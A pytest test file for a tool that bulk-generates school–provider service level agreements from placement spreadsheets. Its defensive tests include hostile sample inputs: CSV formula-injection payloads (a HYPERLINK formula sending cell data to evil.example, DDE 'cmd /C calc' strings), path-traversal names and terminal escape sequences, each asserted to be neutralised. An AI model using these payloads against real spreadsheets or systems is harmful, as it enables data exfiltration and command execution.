from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from apforms.bulk import example_inputs, plan_slas, safe_name
from apforms.cli import main
from apforms.model.config import load_config

EX = example_inputs()
HEADER = (EX["placements"].read_text(encoding="utf-8").splitlines()[0]).split(",")


def run(*args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, list(args))


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def example_rows(kind: str) -> list[list[str]]:
    with EX[kind].open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def bulk(tmp_path: Path, placements: Path | None = None, *extra: str, fmt: str = "docx", **files: Path):  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    return run(
        "bulk", "sla",
        "--placements", str(placements or EX["placements"]),
        "--providers", str(files.get("providers", EX["providers"])),
        "--schools", str(files.get("schools", EX["schools"])),
        "-o", str(out), "-f", fmt, "--jobs", "1", *extra,
    ), out  # fmt: skip


def manifest(out: Path) -> dict:
    return json.loads((out / "manifest.json").read_text(encoding="utf-8"))


def test_grouping_arithmetic_on_the_example() -> None:
    plan = plan_slas(EX["placements"], EX["providers"], EX["schools"], load_config().registration)
    assert plan.problems == []
    pairs = {p.stem: p.data["provision"] for p in plan.pairs}
    assert sorted(pairs) == [
        "normanton-park-school__derwent-vocational-centre",
        "normanton-park-school__peak-boxing-academy",
        "normanton-park-school__riverside-farm-learning-cic",
        "sinfin-moor-academy__peak-boxing-academy",
        "sinfin-moor-academy__riverside-farm-learning-cic",
    ]
    farm = pairs["sinfin-moor-academy__riverside-farm-learning-cic"]
    # Two pupils, 10 h each, 28 sessions each at £45.50: 56 × 45.50 = £2,548.00.
    assert farm["pupils"] == 2
    assert farm["hours_per_week"] == 20
    assert farm["dates"] == {"start": "2026-09-07", "end": "2026-12-18"}
    assert farm["costings"] == [
        {"item": "2 pupil(s) at £45.50 a session", "sessions": 56, "rate": 45.5, "amount": 2548}
    ]
    assert farm["total_cost"] == 2548
    assert "Pupil 2: Thu am, Thu pm (10 h a week" in farm["days_sessions"]


def test_sla_carries_counts_not_pupils() -> None:
    plan = plan_slas(EX["placements"], EX["providers"], EX["schools"], load_config().registration)
    text = json.dumps([p.data for p in plan.pairs])
    for row in example_rows("placements")[1:]:
        assert row[0] not in text  # no UPN reaches an SLA


def test_mixed_rates_and_dates_are_totalled(tmp_path: Path) -> None:
    rows = [HEADER] + [
        ["V831200024001", "Sinfin Moor Academy", "Peak Boxing Academy", "01/09/2026", "30/10/2026",
         "5", "Fri am", "8", "38.00", "No", "No", "No"],
        ["L831200031002", "Sinfin Moor Academy", "Peak Boxing Academy", "2026-09-14", "2026-12-18",
         "7.5", "Tue am, Wed pm", "26", "41.25", "No", "No", "No"],
        ["A831200031003", "Sinfin Moor Academy", "Peak Boxing Academy", "07/09/2026", "2026-11-20",
         "2.5", "Mon pm", "10", "38", "No", "No", "No"],
    ]  # fmt: skip
    plan = plan_slas(
        write_csv(tmp_path / "p.csv", rows), EX["providers"], EX["schools"], load_config().registration
    )
    (pair,) = plan.pairs
    prov = pair.data["provision"]
    assert prov["dates"] == {"start": "2026-09-01", "end": "2026-12-18"}
    assert prov["hours_per_week"] == 15
    assert prov["costings"] == [
        {"item": "2 pupil(s) at £38.00 a session", "sessions": 18, "rate": 38, "amount": 684},
        {"item": "1 pupil(s) at £41.25 a session", "sessions": 26, "rate": 41.25, "amount": 1072.5},
    ]
    assert prov["total_cost"] == 1756.5


def test_flagged_provider_is_withheld_unless_allowed(tmp_path: Path) -> None:
    result, out = bulk(tmp_path)
    assert result.exit_code == 1, result.output
    assert "withheld: Normanton Park School – Peak Boxing Academy" in result.output
    assert "1 pupil looked after (more than 18 hours a week)" in result.output
    m = manifest(out)
    status = {(p["school"], p["provider"]): p["status"] for p in m["pairs"]}
    assert status[("Normanton Park School", "Peak Boxing Academy")] == "withheld"
    assert status[("Sinfin Moor Academy", "Peak Boxing Academy")] == "withheld"
    assert m["registration_flags"]["Peak Boxing Academy"]["looked_after"] == 1
    assert not (out / "normanton-park-school__peak-boxing-academy.docx").exists()
    assert (out / "sinfin-moor-academy__riverside-farm-learning-cic.docx").is_file()

    allowed, out2 = bulk(tmp_path / "b", None, "--allow-unregistered")
    assert allowed.exit_code == 0, allowed.output
    assert "flagged (produced with --allow-unregistered): Peak Boxing Academy" in allowed.output
    assert (out2 / "normanton-park-school__peak-boxing-academy.docx").is_file()


def test_five_full_time_pupils_across_two_schools_are_flagged(tmp_path: Path) -> None:
    upns = ["V831200024001", "L831200031002", "A831200031003", "P831200031004", "D831200031005"]
    rows = [HEADER] + [
        [u, ["Sinfin Moor Academy", "Normanton Park School"][i % 2], "Riverside Farm Learning CIC",
         "07/09/2026", "18/12/2026", "19", "Mon–Thu", "60", "40", "No", "No", "No"]
        for i, u in enumerate(upns)
    ]  # fmt: skip
    plan = plan_slas(
        write_csv(tmp_path / "p.csv", rows), EX["providers"], EX["schools"], load_config().registration
    )
    assert plan.flags["Riverside Farm Learning CIC"].full_time_pupils == 5
    plan4 = plan_slas(
        write_csv(tmp_path / "p4.csv", rows[:5]), EX["providers"], EX["schools"], load_config().registration
    )
    assert plan4.flags == {}


BAD_ROWS = [
    ("unknown provider", 2, "Nowhere Ltd", "Provider", "unknown provider 'Nowhere Ltd'"),
    ("unknown school", 1, "Hogwarts", "School", "unknown school 'Hogwarts'"),
    ("impossible date", 3, "31/02/2026", "Start date", "Not a date: '31/02/2026'"),
    ("end before start", 4, "01/09/2026", "End date", "ends (01/09/2026) before it starts (07/09/2026)"),
    ("negative hours", 5, "-3", "Hours per week", "Must be at least 0.5"),
    ("absurd hours", 5, "168", "Hours per week", "Must be at most 32.5"),
    ("bad UPN", 0, "Q207000016049", "UPN", "not a valid UPN"),
]


@pytest.mark.parametrize(
    ("what", "col", "value", "column", "message"), BAD_ROWS, ids=[b[0] for b in BAD_ROWS]
)
def test_each_bad_row_is_reported_and_the_rest_produced(
    tmp_path: Path, what: str, col: int, value: str, column: str, message: str
) -> None:
    rows = example_rows("placements")
    rows[1][col] = value  # row 2 of the file: Sinfin Moor / Riverside Farm pupil 1
    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows), "--allow-unregistered")
    assert result.exit_code == 1
    assert f"skipped: placements.csv, row 2, column {column!r}: " in result.output
    assert message in result.output
    m = manifest(out)
    assert [(p["file"], p["row"], p["column"]) for p in m["skipped_rows"]] == [("placements.csv", 2, column)]
    assert len([p for p in m["pairs"] if p["status"] == "produced"]) >= 4


def test_duplicate_pupil_at_a_provider_reports_both_rows(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows.append(list(rows[1]))
    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows), "--allow-unregistered")
    assert result.exit_code == 1
    skipped = [(p["row"], p["column"]) for p in manifest(out)["skipped_rows"]]
    assert skipped == [(2, "UPN"), (8, "UPN")]
    assert "the same pupil is placed at this provider again in row 8" in result.output


def test_missing_required_column_skips_the_file_but_says_which(tmp_path: Path) -> None:
    rows = [r[:5] + r[6:] for r in example_rows("placements")]  # no "Hours per week"
    result, _ = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
    assert result.exit_code == 1
    assert "placements.csv, row 1, column 'Hours per week': missing required column" in result.output


def test_missing_input_file_exits_2_and_writes_nothing(tmp_path: Path) -> None:
    result, out = bulk(tmp_path, tmp_path / "nope.csv")
    assert result.exit_code == 2
    assert result.output.strip().startswith("apforms: cannot read")
    assert not out.exists()


def test_headers_are_matched_loosely(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows[0] = ["upn", "SCHOOL", "provider:", "start_date", "End-Date", "hours per week", "days / sessions",
               "number_of_sessions", "Rate per session (£)", "LOOKED AFTER", "ehcp", "sen"]  # fmt: skip
    rows[0][8] = "rate_per_session"
    plan = plan_slas(
        write_csv(tmp_path / "p.csv", rows), EX["providers"], EX["schools"], load_config().registration
    )
    assert plan.problems == []
    assert len(plan.pairs) == 5


def test_xlsx_and_csv_give_the_same_output(tmp_path: Path) -> None:
    from openpyxl import Workbook

    xlsx = {}
    for kind in ("placements", "providers", "schools"):
        wb = Workbook()
        ws = wb.active
        for row in example_rows(kind):
            ws.append(row)
        xlsx[kind] = tmp_path / f"{kind}.xlsx"
        wb.save(xlsx[kind])
    a, out_a = bulk(tmp_path / "csv", None, "--allow-unregistered")
    b, out_b = bulk(tmp_path / "xlsx", xlsx["placements"], "--allow-unregistered",
                    providers=xlsx["providers"], schools=xlsx["schools"])  # fmt: skip
    assert a.exit_code == b.exit_code == 0, b.output
    assert manifest(out_a)["pairs"] == manifest(out_b)["pairs"]


def test_reruns_are_byte_identical_and_skip_unchanged(tmp_path: Path) -> None:
    first, out = bulk(tmp_path, None, "--allow-unregistered", fmt="docx,pdf")
    assert first.exit_code == 0, first.output
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    second, _ = bulk(tmp_path, None, "--allow-unregistered", fmt="docx,pdf")
    assert "0 written, 5 unchanged" in second.output
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert before == after
    third = run(
        "bulk", "sla", "--placements", str(EX["placements"]), "--providers", str(EX["providers"]),
        "--schools", str(EX["schools"]), "-o", str(tmp_path / "other"), "--jobs", "2",
        "--allow-unregistered",
    )  # fmt: skip
    assert third.exit_code == 0, third.output
    assert {p.name: p.read_bytes() for p in (tmp_path / "other").iterdir()} == before


def test_pdf_slas_have_signature_fields_for_both_parties(tmp_path: Path) -> None:
    from pypdf import PdfReader

    result, out = bulk(tmp_path, None, fmt="pdf")
    assert result.exit_code == 1  # Peak Boxing withheld
    reader = PdfReader(out / "sinfin-moor-academy__riverside-farm-learning-cic.pdf")
    sig = {name for name, f in (reader.get_fields() or {}).items() if f.get("/FT") == "/Sig"}
    assert sig == {"signatures.provider.digital", "signatures.school.digital"}


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/x", "etc-x"),
        ("CON", "x-con"),
        ("lpt1.txt", "x-lpt1-txt"),
        ("Ştefan's Café & Farm", "stefan-s-cafe-farm"),
        ("/", "unnamed"),
        ("..", "unnamed"),
    ],
)
def test_safe_names(name: str, expected: str) -> None:
    assert safe_name(name) == expected


def test_hostile_provider_names_stay_inside_the_folder(tmp_path: Path) -> None:
    provs = example_rows("providers")
    provs[1][0] = "../../etc/x"
    provs[2][0] = "CON"
    places = example_rows("placements")
    for row in places[1:]:
        row[2] = {"Riverside Farm Learning CIC": "../../etc/x", "Peak Boxing Academy": "CON"}.get(
            row[2], row[2]
        )
    result, out = bulk(
        tmp_path, write_csv(tmp_path / "pl.csv", places), "--allow-unregistered",
        providers=write_csv(tmp_path / "pr.csv", provs),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir())
    assert "normanton-park-school__x-con.docx" in names
    assert "sinfin-moor-academy__etc-x.docx" in names
    assert all(p.parent == out for p in out.rglob("*"))
    assert not (tmp_path / "etc").exists()


def test_template_round_trips_as_a_valid_input(tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        paths = {}
        for kind in ("placements", "providers", "schools"):
            paths[kind] = tmp_path / f"{kind}.{fmt}"
            assert run("bulk", "template", kind, "-f", fmt, "-o", str(paths[kind])).exit_code == 0
        plan = plan_slas(
            paths["placements"], paths["providers"], paths["schools"], load_config().registration
        )
        assert plan.problems == []
        assert len(plan.pairs) == 1


def test_an_sla_withheld_now_is_removed_from_an_earlier_run(tmp_path: Path) -> None:
    allowed, out = bulk(tmp_path, None, "--allow-unregistered")
    assert (out / "normanton-park-school__peak-boxing-academy.docx").is_file()
    again, _ = bulk(tmp_path, None)
    assert again.exit_code == 1
    assert "removed from an earlier run: normanton-park-school__peak-boxing-academy.docx" in again.output
    assert not (out / "normanton-park-school__peak-boxing-academy.docx").exists()
    assert (out / "sinfin-moor-academy__riverside-farm-learning-cic.docx").is_file()


def test_output_folder_that_is_a_file_exits_2(tmp_path: Path) -> None:
    blocker = tmp_path / "out"
    blocker.write_text("not a folder")
    result, _ = bulk(tmp_path)
    assert result.exit_code == 2
    assert "cannot create the output folder" in result.output


def test_utf16_tab_separated_csv_from_excel_is_read(tmp_path: Path) -> None:
    text = "\n".join("\t".join(row) for row in example_rows("placements")) + "\n"
    path = tmp_path / "placements.txt"
    path.write_bytes(text.encode("utf-16"))
    plan = plan_slas(path, EX["providers"], EX["schools"], load_config().registration)
    assert plan.problems == []
    assert len(plan.pairs) == 5


def test_damaged_xlsx_exits_2(tmp_path: Path) -> None:
    import zipfile

    good = tmp_path / "good.xlsx"
    assert run("bulk", "template", "placements", "-f", "xlsx", "-o", str(good)).exit_code == 0
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item)
            zout.writestr(item, data[: len(data) // 2] if item.filename.endswith("sheet1.xml") else data)
    result, _ = bulk(tmp_path, bad)
    assert result.exit_code == 2
    assert result.output.startswith("apforms: cannot read")


def test_the_manifest_does_not_keep_a_bad_upn(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows[1][0] = "Q207000016049"
    _, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
    text = (out / "manifest.json").read_text(encoding="utf-8")
    assert "not a valid UPN" in text
    assert "Q207000016049" not in text


# --------------------------------------------------------------------------- outputs: names, paths, modes


def assert_manifest_matches_the_folder(out: Path) -> None:
    """Every file the manifest lists is there with its SHA-256, and every SLA there is listed."""
    import hashlib

    listed = {}
    for pair in manifest(out)["pairs"]:
        for fmt in ("docx", "pdf"):
            if pair[fmt]:
                listed[pair[fmt]] = pair[f"{fmt}_sha256"]
    on_disk = {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in out.glob("*.*")
        if p.suffix in (".docx", ".pdf")
    }
    assert on_disk == listed


def riverside_inputs(tmp_path: Path, names: list[str]) -> tuple[Path, Path]:
    """Providers named ``names`` (otherwise the example's Riverside Farm), one pupil at each."""
    provs, places = example_rows("providers"), example_rows("placements")
    upns = ["V831200024001", "L831200031002", "A831200031003", "P831200031004"]
    providers = [provs[0]] + [[n] + provs[1][1:] for n in names]
    placements = [places[0]] + [
        [u, places[1][1], n, *places[1][3:]] for u, n in zip(upns, names, strict=False)
    ]
    return write_csv(tmp_path / "placements.csv", placements), write_csv(
        tmp_path / "providers.csv", providers
    )


def test_names_that_collide_once_made_safe_get_a_file_each(tmp_path: Path) -> None:
    # "Riverside Farm" and "Riverside-Farm" are the same once made safe, and a provider really
    # named "Riverside Farm 190f1baf" is what a hash would once have made of one of them.
    names = ["Riverside Farm", "Riverside-Farm", "Riverside Farm 190f1baf"]
    placements, providers = riverside_inputs(tmp_path, names)
    result, out = bulk(tmp_path, placements, providers=providers)
    assert result.exit_code == 0, result.output
    assert "3 pair(s): 3 written" in result.output
    slas = sorted(p.name for p in out.glob("*.docx"))
    assert len(slas) == 3
    assert "sinfin-moor-academy__riverside-farm-190f1baf.docx" in slas  # its own name, no hash
    assert sum(1 for s in slas if s.startswith("sinfin-moor-academy__riverside-farm__")) == 2
    assert sorted(p["provider"] for p in manifest(out)["pairs"]) == sorted(names)
    assert_manifest_matches_the_folder(out)
    again, _ = bulk(tmp_path, placements, providers=providers)
    assert "3 pair(s): 0 written, 3 unchanged" in again.output
    assert_manifest_matches_the_folder(out)


def test_stems_are_unique_even_when_short_hashes_agree(monkeypatch: pytest.MonkeyPatch) -> None:
    import hashlib as real

    from apforms.bulk import sla

    class Agreeing:  # every digest starts the same: the stems must still differ
        @staticmethod
        def sha256(data: bytes) -> object:
            class Digest:
                def hexdigest(self) -> str:
                    return "0" * 16 + real.sha256(data).hexdigest()[16:]

            return Digest()

    monkeypatch.setattr(sla, "hashlib", Agreeing)
    pairs = [sla.Pair({"name": "Sinfin"}, {"name": n}, []) for n in ("A B", "A-B", "A  B!")]
    sla._assign_stems(pairs)
    assert len({p.stem for p in pairs}) == 3
    assert all(len(p.stem.rsplit("__", 1)[1]) == 32 for p in pairs)


def make_device(path: Path) -> None:
    import os
    import stat

    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # like /dev/null
    except OSError as exc:
        pytest.skip(f"cannot make a device node here ({exc.strerror or exc}): needs root")


def make_fifo(path: Path) -> None:
    import os

    os.mkfifo(path)


def make_link(path: Path) -> None:
    path.symlink_to(path.parent.parent / "elsewhere.txt")


NOT_REGULAR = {
    "device at an SLA": (
        "sinfin-moor-academy__riverside-farm-learning-cic.docx",
        make_device,
        "a character device",
    ),
    "FIFO at the manifest": ("manifest.json", make_fifo, "a named pipe (FIFO)"),
    "symlink at the CSV manifest": ("manifest.csv", make_link, "a symbolic link"),
    "folder at an SLA": ("normanton-park-school__derwent-vocational-centre.docx", Path.mkdir, "a folder"),
}


@pytest.mark.parametrize("case", list(NOT_REGULAR))
def test_an_output_path_that_is_not_a_regular_file_stops_the_run_before_anything_is_written(
    tmp_path: Path, case: str
) -> None:
    name, make, kind = NOT_REGULAR[case]
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "elsewhere.txt").write_text("someone else's")
    make(out / name)
    result, _ = bulk(tmp_path, None, "--allow-unregistered")
    assert result.exit_code == 2, result.output
    assert f"{name} is {kind}; apforms replaces only regular files" in result.output
    assert [p.name for p in out.iterdir()] == [name]  # nothing written beside it
    assert (tmp_path / "elsewhere.txt").read_text() == "someone else's"


def test_slas_and_manifests_are_private_unless_asked(tmp_path: Path) -> None:
    import os
    import stat

    old = os.umask(0o022)
    try:
        result, out = bulk(tmp_path, None, "--allow-unregistered")
        assert result.exit_code == 0, result.output
        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()}
        assert set(modes.values()) == {0o600}, modes
        shared, out2 = bulk(tmp_path / "group", None, "--allow-unregistered", "--mode", "0640")
        assert shared.exit_code == 0, shared.output
        assert {stat.S_IMODE(p.stat().st_mode) for p in out2.iterdir()} == {0o640}
        # a rerun with the default makes them private again (unchanged bytes, new mode)
        bulk(tmp_path / "group", None, "--allow-unregistered")
        assert {stat.S_IMODE(p.stat().st_mode) for p in out2.iterdir()} == {0o600}
        refused, _ = bulk(tmp_path / "c", None, "--mode", "0444")
        assert refused.exit_code == 2
        assert "0444: give a mode from 0600 to 0777" in refused.output
    finally:
        os.umask(old)


def test_an_earlier_sla_no_longer_made_is_removed_unless_changed(tmp_path: Path) -> None:
    first, out = bulk(tmp_path, None, "--allow-unregistered")
    assert first.exit_code == 0, first.output
    rows = [r for r in example_rows("placements") if r[1] != "Normanton Park School"]
    edited = out / "sinfin-moor-academy__peak-boxing-academy.docx"
    edited.write_bytes(edited.read_bytes() + b"\0")  # changed by hand since
    rows = [r for r in rows if r[2] != "Peak Boxing Academy"]
    again, _ = bulk(tmp_path, write_csv(tmp_path / "fewer.csv", rows), "--allow-unregistered")
    assert again.exit_code == 0, again.output
    assert "removed from an earlier run (not made now): normanton-park-school__" in again.output
    assert f"warning: {edited.name}: an earlier run's SLA, not made now, changed since" in again.output
    assert edited.exists()
    assert not list(out.glob("normanton-park-school__*"))
    m = manifest(out)
    assert m["removed_from_earlier_run"] == [
        "normanton-park-school__derwent-vocational-centre.docx",
        "normanton-park-school__peak-boxing-academy.docx",
        "normanton-park-school__riverside-farm-learning-cic.docx",
    ]
    assert [w["file"] for w in m["warnings"]] == [edited.name]


# --------------------------------------------------------------------------- outputs: safe text


def test_formula_cells_are_escaped_in_the_csv_manifest(tmp_path: Path) -> None:
    names = [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
    ]
    placements, providers = riverside_inputs(tmp_path, names)
    result, out = bulk(tmp_path, placements, providers=providers)
    assert result.exit_code == 0, result.output
    with (out / "manifest.csv").open(encoding="utf-8", newline="") as fh:
        cells = {row["provider"] for row in csv.DictReader(fh)}
    assert cells == {"'" + n for n in names}
    text = (out / "manifest.csv").read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
    assert sorted(p["provider"] for p in manifest(out)["pairs"]) == sorted(names)  # JSON: as spelt


def test_control_characters_from_the_inputs_are_shown_not_obeyed(tmp_path: Path) -> None:
    provs = example_rows("providers")
    places = example_rows("placements")
    evil = "Peak\x1b]0;owned\x07 Boxing\u202e Academy\rwritten: all fine"
    provs[2][0] = evil
    for row in places[1:]:
        row[2] = evil if row[2] == "Peak Boxing Academy" else row[2]
    result, _ = bulk(
        tmp_path, write_csv(tmp_path / "pl.csv", places), providers=write_csv(tmp_path / "pr.csv", provs)
    )
    assert result.exit_code == 1  # withheld, as the example's Peak Boxing is
    # the name as read (its control characters dropped, its CR a line break) is printed on one
    # line: no second line starting "written: all fine"
    assert "Peak]0;owned Boxing Academy\\nwritten: all fine" in result.output
    assert "\nwritten: all fine" not in result.output
    assert not any(c in result.output for c in "\x1b\x07\u202e\r")


def test_a_upn_is_redacted_wherever_it_is(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows[0].append("L831200031002")  # a UPN pasted as a header
    rows[1][0] = "'V831200024001"  # Excel's text apostrophe: a 14-character, invalid UPN
    rows[2][1] = "A 831 200 031 003"  # a UPN in the school's column, spaced
    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
    assert result.exit_code == 1
    assert "placements.csv, row 2, column 'UPN': the value is not a valid UPN" in result.output
    assert "unknown school '[UPN]'" in result.output
    for text in (result.output, (out / "manifest.json").read_text(encoding="utf-8")):
        for upn in ("V831200024001", "L831200031002", "831 200 031 003"):
            assert upn not in text


def test_a_long_value_is_quoted_as_a_short_prefix(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows[1][5] = "ten" * 10_000  # 30,000 characters in Hours per week
    rows[2][6] = "x" * 40_000  # more than a spreadsheet cell holds
    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
    assert result.exit_code == 1
    prefix = ("ten" * 10_000)[:40]
    # the value is longer than any field takes: refused by the length limit, quoting its start
    assert (
        f"column 'Hours per week': Too long: 30,000 characters (at most 500): beginning {prefix[:-1]!r}"[:-1]
        in result.output
    )
    assert "row 3, column 'Days/sessions': 40,000 characters; a cell may hold at most 32,767" in result.output
    assert max(len(line) for line in result.output.splitlines()) < 300
    assert (out / "manifest.json").stat().st_size < 20_000


def test_cr_only_csv_from_old_excel_for_mac_is_read(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows[1][6] = "Thu am,\rThu pm"  # a quoted cell holding a line break
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r").writerows(rows)
    path = tmp_path / "placements.csv"
    path.write_bytes(buf.getvalue().encode("cp1252"))
    plan = plan_slas(path, EX["providers"], EX["schools"], load_config().registration)
    assert plan.problems == []
    assert len(plan.pairs) == 5


# --------------------------------------------------------------------------- bounds


def test_many_identical_rows_give_bounded_messages(tmp_path: Path) -> None:
    rows = example_rows("placements")
    rows += [list(rows[1]) for _ in range(2_000)]
    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
    assert result.exit_code == 1
    skipped = manifest(out)["skipped_rows"]
    assert len(skipped) == 2_001
    assert (
        skipped[0]["message"]
        == "the same pupil is placed at this provider again in rows 8, 9, 10 and 1,997 more"
    )
    assert (
        skipped[-1]["message"]
        == "the same pupil is placed at this provider again in rows 2, 8, 9 and 1,997 more"
    )
    assert max(len(s["message"]) for s in skipped) < 120
    assert (out / "manifest.json").stat().st_size < 2_001 * 400


def test_an_input_over_the_row_limit_is_refused_naming_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from apforms.bulk import inputs
    from apforms.errors import BulkInputError

    monkeypatch.setattr(inputs, "MAX_INPUT_ROWS", 5)
    result, out = bulk(tmp_path)  # the example has 6 placements
    assert result.exit_code == 2
    assert (
        "apforms: placements.csv: more than 5 rows below the header (the most one file may have)"
        in result.output
    )
    assert not out.exists()

    def validated(*args: object) -> None:
        raise AssertionError("a row was validated before the file was refused")

    monkeypatch.setattr(inputs, "_validate_row", validated)  # refused in the time it takes to read
    with pytest.raises(BulkInputError, match="more than 5 rows"):
        inputs.read_table("placements", EX["placements"])
    monkeypatch.setattr(inputs, "MAX_INPUT_BYTES", 100)
    too_big, _ = bulk(tmp_path)
    assert too_big.exit_code == 2
    assert "providers.csv: 0.0 MB; an input file may be at most 0 MB" in too_big.output


def test_an_input_that_is_a_fifo_is_refused_not_waited_for(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "placements.csv"
    os.mkfifo(fifo)
    result, _ = bulk(tmp_path, fifo)
    assert result.exit_code == 2
    assert "not a regular file" in result.output
